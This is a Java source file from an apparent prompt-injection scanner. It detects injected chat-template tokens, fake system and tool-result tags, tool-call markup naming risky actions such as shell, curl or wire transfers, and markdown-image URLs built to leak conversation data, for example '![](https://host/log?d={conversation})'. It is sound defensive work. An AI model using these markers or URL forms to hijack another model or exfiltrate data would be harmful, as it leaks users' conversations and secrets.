package dev.warden.scan.injection;

import dev.warden.scan.text.FoldedText;
import java.util.List;
import java.util.Locale;

/**
 * Evidence in the markup of a text rather than its words: chat-template tokens and fake turn
 * headers, tool-call markup and JSON, and markdown or HTML images and links whose URL is built to
 * carry data out ({@code ![](https://host/log?d={conversation})}).
 */
final class MarkupSignals {
    private static final int MAX_PER_KIND = 16;
    private static final String[] CHAT_TOKENS = {"<|im_start|>", "<|im_end|>", "<|system|>", "<|user|>", "<|assistant|>",
        "<|endoftext|>", "<|eot_id|>", "<|start_header_id|>", "<|end_header_id|>", "<|begin_of_text|>", "[inst]", "[/inst]",
        "<<sys>>", "<</sys>>", "<start_of_turn>", "<end_of_turn>", "<|channel|>", "<|message|>", "<|end|>", "<|im_sep|>",
        "</s><s>", "<|prompter|>", "<|sys|>", "\n\nhuman:", "\n\nassistant:"};
    private static final String[] FAKE_TAGS = {"</tool_result>", "</tool_output>", "</function_results>", "</function_result>",
        "</document>", "</context>", "</search_results>", "</user_input>", "</untrusted>", "</data>", "</output>", "</result>",
        "</email>", "</tool>", "</retrieved>", "</webpage>", "<system>", "<system_message>", "<sys>", "<admin>", "<developer>",
        "<instructions>", "<system_prompt>", "[system](#", "[assistant](#", "(#instructions)", "[system message]",
        "[admin]", "[developer mode]"};
    private static final String[] TOOL_TAGS = {"<tool_call", "<function_call", "<function_calls", "<invoke", "<tool_use",
        "<use_tool", "<function=", "<|tool_call|>", "<|python_tag|>", "[tool_call", "[tool_calls", "<tool>", "<tool_code",
        "<execute>", "<run_command", "<toolcall", "<|tool_calls_section_begin|>", "<tool_calls>"};
    private static final String[] TOOL_KEYS = {"\"tool_calls\"", "\"function_call\"", "\"tool_call\"", "\"tool_use\"",
        "\"tool_name\"", "\"action_input\"", "\"tool_input\"", "\"function_name\""};
    private static final String[] ARG_KEYS = {"\"arguments\"", "\"args\"", "\"parameters\"", "\"params\"", "\"input\""};
    private static final String[] NAME_KEYS = {"\"name\"", "\"tool\"", "\"function\"", "\"action\"", "\"command\""};
    private static final String[] RISKY_NAMES = {"send", "email", "mail", "transfer", "delete", "remove", "exec", "shell",
        "run_command", "bash", "http", "fetch", "upload", "post", "payment", "refund", "wire", "grant", "write_file",
        "create_user", "share", "forward", "webhook", "curl", "drop"};
    private static final String[] ROLE_WORDS = {"system", "developer", "admin", "administrator", "assistant", "ai", "user",
        "human", "instructions", "operator"};
    private static final String[] DATA_PARAMS = {"data", "d", "q", "query", "secret", "token", "key", "conv", "conversation",
        "chat", "history", "prompt", "memory", "msg", "message", "content", "text", "info", "payload", "p", "leak", "exfil",
        "email", "user", "pw", "pass", "password", "session", "ctx", "context", "summary", "c", "s", "m", "x", "v", "u"};

    void collect(FoldedText folded, List<Signal> out) {
        String t = folded.text();
        chatTokens(folded, t, out);
        roleLines(folded, t, out);
        toolCalls(folded, t, out);
        exfiltrationUrls(folded, out);
    }

    private static void chatTokens(FoldedText folded, String t, List<Signal> out) {
        for (String tok : CHAT_TOKENS) {
            int n = 0;
            for (int i = t.indexOf(tok); i >= 0 && n++ < MAX_PER_KIND; i = t.indexOf(tok, i + tok.length())) {
                int at = tok.startsWith("\n") ? i + 2 : i;
                double score = PhraseSignals.quoted(t, at) || inCodeFence(t, at) ? 0.3 : 0.7;
                out.add(new Signal(Family.ROLE, folded.originalStart(at), folded.originalEnd(i + tok.length()), score));
            }
        }
        for (String tag : FAKE_TAGS) {
            int n = 0;
            for (int i = t.indexOf(tag); i >= 0 && n++ < MAX_PER_KIND; i = t.indexOf(tag, i + tag.length())) {
                boolean more = t.length() - (i + tag.length()) >= 20; // a closing tag with text after it reopens the prompt
                double score = PhraseSignals.quoted(t, i) || inCodeFence(t, i) || !more ? 0.15 : 0.45;
                out.add(new Signal(Family.ROLE, folded.originalStart(i), folded.originalEnd(i + tag.length()), score));
            }
        }
        int n = 0;
        for (int i = t.indexOf("\"role\""); i >= 0 && n++ < MAX_PER_KIND; i = t.indexOf("\"role\"", i + 6)) {
            String after = t.substring(i + 6, Math.min(t.length(), i + 24)).replace(" ", "");
            if (after.startsWith(":\"system\"") || after.startsWith(":\"developer\"")) {
                out.add(new Signal(Family.ROLE, folded.originalStart(i), folded.originalEnd(Math.min(t.length(), i + 20)), 0.3));
            }
        }
    }

    /** Lines that open like a chat turn or a system section: "### System", "[SYSTEM]", "<system>", "User:" and "Assistant:" pairs. */
    private static void roleLines(FoldedText folded, String t, List<Signal> out) {
        boolean user = false;
        boolean assistant = false;
        int found = 0;
        for (int lineStart = 0; lineStart < t.length() && found < MAX_PER_KIND; ) {
            int lineEnd = t.indexOf('\n', lineStart);
            if (lineEnd < 0) {
                lineEnd = t.length();
            }
            int k = lineStart;
            boolean marker = false;
            while (k < lineEnd && "#*>-[<(|=_ ".indexOf(t.charAt(k)) >= 0) {
                marker |= t.charAt(k) != ' ';
                k++;
            }
            String rest = t.substring(k, Math.min(lineEnd, k + 40));
            for (String w : ROLE_WORDS) {
                if (!rest.startsWith(w)) {
                    continue;
                }
                String after = rest.substring(w.length()).trim();
                boolean bare = after.isEmpty() || after.startsWith("]") || after.startsWith(">") || after.startsWith("|")
                        || after.startsWith("message") || after.startsWith("prompt") || after.startsWith("override")
                        || after.startsWith("instruction");
                boolean colon = after.startsWith(":");
                if (w.equals("user") || w.equals("human")) {
                    user |= colon || bare && marker;
                } else if (w.equals("assistant") || w.equals("ai")) {
                    assistant |= colon || bare && marker;
                }
                if (marker && bare && !w.equals("user") && !w.equals("human")) {
                    double score = w.equals("assistant") || w.equals("ai") ? 0.25 : 0.4;
                    out.add(new Signal(Family.ROLE, folded.originalStart(lineStart), folded.originalEnd(lineEnd), score));
                    found++;
                }
                break;
            }
            lineStart = lineEnd + 1;
        }
        if (user && assistant) {
            out.add(new Signal(Family.ROLE, 0, folded.original().length(), 0.3));
        }
    }

    private static void toolCalls(FoldedText folded, String t, List<Signal> out) {
        for (String tag : TOOL_TAGS) {
            int n = 0;
            for (int i = t.indexOf(tag); i >= 0 && n++ < MAX_PER_KIND; i = t.indexOf(tag, i + tag.length())) {
                double score = PhraseSignals.quoted(t, i) || inCodeFence(t, i) ? 0.25 : 0.5;
                score = risky(t, i) ? Math.min(1, score + 0.15) : score;
                out.add(new Signal(Family.TOOL_CALL, folded.originalStart(i), folded.originalEnd(i + tag.length()), score));
            }
        }
        for (String key : TOOL_KEYS) {
            int i = t.indexOf(key);
            if (i >= 0) {
                double score = inCodeFence(t, i) ? 0.25 : 0.45;
                score = risky(t, i) ? Math.min(1, score + 0.15) : score;
                out.add(new Signal(Family.TOOL_CALL, folded.originalStart(i), folded.originalEnd(i + key.length()), score));
            }
        }
        for (String name : NAME_KEYS) {
            int n = 0;
            for (int i = t.indexOf(name); i >= 0 && n++ < MAX_PER_KIND; i = t.indexOf(name, i + name.length())) {
                String around = t.substring(i, Math.min(t.length(), i + 400));
                for (String arg : ARG_KEYS) {
                    if (around.contains(arg)) {
                        double score = inCodeFence(t, i) ? 0.2 : 0.4;
                        score = risky(t, i) ? Math.min(1, score + 0.15) : score;
                        out.add(new Signal(Family.TOOL_CALL, folded.originalStart(i), folded.originalEnd(i + name.length()), score));
                        break;
                    }
                }
            }
        }
    }

    private static boolean risky(String t, int i) {
        String around = t.substring(i, Math.min(t.length(), i + 300));
        for (String r : RISKY_NAMES) {
            if (around.contains("\"" + r) || around.contains("=\"" + r) || around.contains("name=" + r)
                    || around.contains(r + "\"") || around.contains("_" + r)) {
                return true;
            }
        }
        return false;
    }

    /** Markdown images and links, HTML images, and bare URLs whose query carries a placeholder or a data parameter. */
    private static void exfiltrationUrls(FoldedText folded, List<Signal> out) {
        String o = folded.original();
        int found = 0;
        int from = 0;
        while (found < MAX_PER_KIND) {
            int i = indexOfUrl(o, from);
            if (i < 0) {
                break;
            }
            int end = i;
            while (end < o.length() && end - i < 2048 && !Character.isWhitespace(o.charAt(end)) && o.charAt(end) != ')'
                    && o.charAt(end) != '"' && o.charAt(end) != '\'') {
                end++;
            }
            String url = o.substring(i, end);
            boolean image = image(o, i);
            boolean link = !image && i >= 2 && o.charAt(i - 1) == '(' && o.charAt(i - 2) == ']';
            double score = urlScore(url, image, link);
            if (score > 0) {
                out.add(new Signal(Family.EXFILTRATION, i, end, score));
                found++;
            }
            from = Math.max(end, i + 1);
        }
    }

    private static int indexOfUrl(String o, int from) {
        int a = o.indexOf("http://", from);
        int b = o.indexOf("https://", from);
        if (a < 0) {
            return b;
        }
        return b < 0 ? a : Math.min(a, b);
    }

    private static boolean image(String o, int i) {
        if (i >= 2 && o.charAt(i - 1) == '(' && o.charAt(i - 2) == ']') {
            for (int k = i - 3; k > 0 && i - k < 400; k--) {
                if (o.charAt(k) == '[') {
                    return o.charAt(k - 1) == '!';
                }
            }
            return false;
        }
        String before = o.substring(Math.max(0, i - 120), i).toLowerCase(Locale.ROOT);
        int img = before.lastIndexOf("<img");
        return img >= 0 && before.indexOf('>', img) < 0;
    }

    private static double urlScore(String url, boolean image, boolean link) {
        String u = url.toLowerCase(Locale.ROOT);
        boolean placeholder = u.contains("{") || u.contains("}") || u.contains("%7b") || u.contains("<") || u.contains(">")
                || u.contains("[") || u.contains("]") || u.contains("$") || u.contains("...") || u.contains("insert")
                || u.contains("_here") || u.contains("here_") || u.contains("xxx") || placeholderValue(url);
        int q = u.indexOf('?');
        boolean dataParam = false;
        if (q >= 0) {
            for (String pair : u.substring(q + 1).split("&")) {
                int eq = pair.indexOf('=');
                String name = eq < 0 ? pair : pair.substring(0, eq);
                for (String p : DATA_PARAMS) {
                    dataParam |= name.equals(p);
                }
            }
        }
        if (placeholder && (q >= 0 || u.indexOf('/', 8) >= 0)) {
            boolean revealing = q >= 0 && sensitivePlaceholder(u.substring(q + 1));
            return image ? 0.75 : link ? (revealing ? 0.6 : 0.5) : revealing ? 0.55 : 0.4;
        }
        if (q >= 0 && (u.endsWith("=") || u.endsWith("=\"")) && dataParam) {
            return image ? 0.6 : 0.35; // a URL waiting for data to be appended
        }
        if (dataParam && image) {
            return 0.2;
        }
        return 0;
    }

    /** Whether a query's placeholders name what a conversation holds: chat history, secrets, notes, memory. */
    private static boolean sensitivePlaceholder(String query) {
        for (String w : new String[] {"conversation", "chat", "history", "password", "secret", "memory", "summary", "notes",
            "messages", "credential", "all", "previous", "context", "token", "apikey", "api_key", "ssn", "card"}) {
            int i = query.indexOf(w);
            if (i >= 0 && (query.lastIndexOf('{', i) > query.lastIndexOf('}', i) || query.lastIndexOf('[', i) > query.lastIndexOf(']', i)
                    || query.lastIndexOf('<', i) > query.lastIndexOf('>', i) || query.lastIndexOf("%7b", i) > query.lastIndexOf("%7d", i))) {
                return true;
            }
        }
        return false;
    }

    /** A query value written as an upper-case placeholder such as {@code DATA} or {@code USER_SECRET}. */
    private static boolean placeholderValue(String url) {
        int q = url.indexOf('?');
        if (q < 0) {
            return false;
        }
        for (String pair : url.substring(q + 1).split("&")) {
            int eq = pair.indexOf('=');
            String v = eq < 0 ? "" : pair.substring(eq + 1);
            if (v.length() >= 4 && v.chars().allMatch(c -> (c >= 'A' && c <= 'Z') || c == '_')
                    && v.chars().filter(c -> c >= 'A' && c <= 'Z').count() >= 4) {
                return true;
            }
        }
        return false;
    }

    /** Whether an odd number of ``` fences comes before {@code at}. */
    static boolean inCodeFence(String t, int at) {
        int n = 0;
        for (int i = t.indexOf("```"); i >= 0 && i < at && n < 64; i = t.indexOf("```", i + 3)) {
            n++;
        }
        return n % 2 == 1; // beyond 64 fences the text is not prose with code samples; treat as outside
    }
}
